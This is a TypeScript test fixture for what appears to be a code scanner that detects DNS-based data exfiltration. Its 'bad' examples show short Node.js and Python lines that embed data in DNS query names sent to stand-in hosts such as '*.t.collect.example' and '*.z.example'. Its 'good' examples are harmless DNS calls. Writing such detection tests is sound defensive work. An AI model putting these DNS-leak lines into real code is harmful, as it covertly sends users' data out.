import type { DetectorExamples } from '../detector.ts';

export const examples: DetectorExamples = {
  bad: [
    {
      code: "import dns from 'node:dns/promises'; await dns.resolve4(`${data}.t.collect.example`);",
      why: 'data in the labels of a name',
      attributes: { destination: '*.t.collect.example', via: 'resolve' },
    },
    {
      code: "const { lookup } = require('dns'); lookup('c.example', cb);",
      why: 'a constant name',
      attributes: { destination: 'c.example', via: 'lookup' },
    },
    {
      code: "import { Resolver } from 'dns'; const r = new Resolver(); r.resolveTxt(name, cb);",
      why: 'a resolver of its own',
      attributes: { destination: 'dynamic', via: 'resolve' },
    },
    {
      path: 'x.py',
      code: ['import socket', "socket.gethostbyname(f'{data}.z.example')"].join('\n'),
      why: 'in Python',
      attributes: { destination: '*.z.example', via: 'lookup' },
    },
    {
      path: 'x.py',
      code: ['import dns.resolver', "dns.resolver.resolve('a.z.example', 'TXT')"].join('\n'),
      why: 'by a resolver',
      attributes: { destination: 'a.z.example', via: 'resolve' },
    },
  ],
  good: [
    { code: "table.lookup('c.example');", why: 'another lookup' },
    { code: "import dns from 'dns'; dns.setDefaultResultOrder('ipv4first');", why: 'a setting' },
    {
      path: 'x.py',
      code: ['import socket', 'socket.gethostname()'].join('\n'),
      why: 'its own name',
    },
  ],
};
